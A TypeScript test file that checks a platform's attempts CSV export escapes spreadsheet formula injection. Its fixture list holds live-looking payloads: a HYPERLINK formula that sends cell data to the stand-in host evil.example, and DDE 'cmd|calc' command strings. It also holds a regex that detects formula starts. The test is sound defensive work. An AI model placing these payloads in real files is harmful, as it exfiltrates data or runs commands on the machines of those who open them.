// Item 22, spreadsheet formula injection: the attempts CSV export carries text that candidates and staff chose
// (candidate names and emails on invites, staff names as interviewer and reviewer) and text the grader reported (a
// grading's error). Each is set here to a formula payload; the export is read back as CSV and no cell may start with
// what a spreadsheet runs (`=`, `+`, `-`, `@`, tab, CR, also after whitespace), every payload must be there whole
// behind its `'`, and CR/LF inside a cell must not break a row.
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { repoRoot } from '../../server/src/paths.js';
import { parseCsv } from '../../server/src/review/csv.js';
import { AttemptsRepo } from '../../server/src/store/attempts-repo.js';
import { GradingRepo } from '../../server/src/store/grading-repo.js';
import { figure } from '../helpers/figures.js';
import { useTestServer } from '../helpers/server.js';
import { staffSession, type StaffSession } from '../helpers/staff.js';
import { sqliteSql } from '../../server/src/store/sqlite-sql.js';

const ITEM = '22 csv injection';
const FIXTURES = path.join(repoRoot(), 'test', 'fixtures', 'exercises-advisory');

const NAMES = [
  '=HYPERLINK("http://evil.example/?d="&A1&B1,"Open the review")',
  `=cmd|' /C calc'!A0`,
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1+1)*cmd|calc',
  '＝1+1',
  'Smith, "Jo" =1',
];
const EMAILS = ['=1+1@evil.test', '-2@evil.test', '+x@evil.test'];
const STAFF = { interviewer: '-Mallory+1', reviewer: '@Reviewer=1' };
const GRADING_ERROR = '\t=1+1\r\n=2+2, "quoted"\n@x';

/** What a spreadsheet would evaluate: a formula start, at the beginning or after whitespace. */
const LIVE = /^(?:[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])/;

describe('item 22: formula injection in the attempts CSV export', () => {
  const server = useTestServer({ env: { OPSLAB_EXERCISES_DIR: FIXTURES } });
  let interviewer: StaffSession;
  let reviewer: StaffSession;

  beforeAll(async () => {
    interviewer = await staffSession(server, 'interviewer', STAFF.interviewer);
    reviewer = await staffSession(server, 'interviewer', STAFF.reviewer);
  }, 60_000);
  it('writes every hostile text as inert text, whole, without breaking a row', async () => {
    const db = server.services.sqlite!;
    const attempts = new AttemptsRepo(sqliteSql(db));
    const grading = new GradingRepo(sqliteSql(db));
    const ids: string[] = [];
    // Invites through the API (its validation is what a hostile interviewer or candidate data meets), attempts
    // stored directly: what is exported is the store's text, and no sandbox is needed for that.
    for (const [i, candidateName] of NAMES.entries()) {
      const res = await fetch(`${server.url}/api/manage/invites`, {
        method: 'POST',
        headers: { ...interviewer.headers, 'content-type': 'application/json' },
        body: JSON.stringify({ exerciseId: 'advisory-demo', candidateName, candidateEmail: EMAILS[i % EMAILS.length], showFeedback: false }),
      });
      expect(res.status, await res.clone().text()).toBe(201);
      const invite = ((await res.json()) as { invite: { id: string } }).invite;
      const id = `a_${String(i).padStart(20, '0')}`;
      const now = Date.now() - 60_000;
      await attempts.insert({
        id, exerciseId: 'advisory-demo', state: 'archived', tokenHash: 'x', timeLimitSeconds: 900, createdAt: now, startedAt: now,
        deadline: now + 900_000, endedAt: now + 1000, endReason: 'submitted', sandboxId: null, sandboxStatus: 'removed',
        recordingPath: null, failure: null, seed: null, params: {}, hintsRevealed: 0, mode: 'interview', inviteId: invite.id,
        feedback: false, ownerHash: null,
      });
      db.prepare('UPDATE invites SET attempt_id = ?, claimed_at = ? WHERE id = ?').run(id, now, invite.id);
      await grading.insert({ attemptId: id, kind: 'final', startedAt: now, finishedAt: now + 500, score: 0, maxScore: 0, results: [], cleanroom: [], error: GRADING_ERROR });
      const review = await fetch(`${server.url}/api/manage/attempts/${id}/review`, {
        method: 'PUT',
        headers: { ...reviewer.headers, 'content-type': 'application/json' },
        body: JSON.stringify({ ratings: { git: { rating: 2, notes: '=1+1' } }, recommendation: 'no', summary: '=1+1' }),
      });
      expect(review.status).toBe(200);
      ids.push(id);
    }

    const res = await fetch(`${server.url}/api/manage/attempts/export.csv`, { headers: interviewer.headers });
    expect(res.status).toBe(200);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
    const [header, ...rows] = parseCsv(text);
    const cells = [header!, ...rows].flat();
    const live = cells.filter((c) => LIVE.test(c));
    const payloads = [...NAMES, ...EMAILS, STAFF.interviewer, STAFF.reviewer, GRADING_ERROR];
    const neutralised = cells.filter((c) => c.startsWith("'") && payloads.includes(c.slice(1)));
    const broken = rows.filter((r) => r.length !== header!.length);

    figure(ITEM, 'attempts exported with hostile text', rows.length);
    figure(ITEM, 'hostile cells written inert (leading \')', neutralised.length);
    figure(ITEM, 'cells a spreadsheet would evaluate', live.length);
    figure(ITEM, 'rows broken by CR/LF in a cell', broken.length);

    expect(rows.map((r) => r[0]).sort()).toEqual([...ids].sort());
    expect(live).toEqual([]);
    expect(broken).toEqual([]);
    // Every payload is there whole, behind its quote mark: names and emails once per attempt, staff names in
    // every row (interviewer) and the header (reviewer), the grading error in every row.
    const col = (name: string) => header!.indexOf(name);
    expect(rows.map((r) => r[col('candidate name')]).sort()).toEqual(NAMES.filter((n) => n !== 'Smith, "Jo" =1').map((n) => `'${n}`).concat('Smith, "Jo" =1').sort());
    expect(new Set(rows.map((r) => r[col('interviewer')]))).toEqual(new Set([`'${STAFF.interviewer}`]));
    expect(new Set(rows.map((r) => r[col('grading error')]))).toEqual(new Set([`'${GRADING_ERROR}`]));
    expect(rows.every((r) => EMAILS.map((e) => `'${e}`).includes(r[col('candidate email')]!))).toBe(true);
    expect(header).toContain(`reviewer ${STAFF.reviewer}: recommendation`);
    expect(neutralised.length).toBe(rows.length * 4 - 1);
    // The review's summary and notes are not in the export at all.
    expect(rows.every((r) => r[col(`reviewer ${STAFF.reviewer}: weighted score`)] === '2')).toBe(true);
  }, 60_000);
});
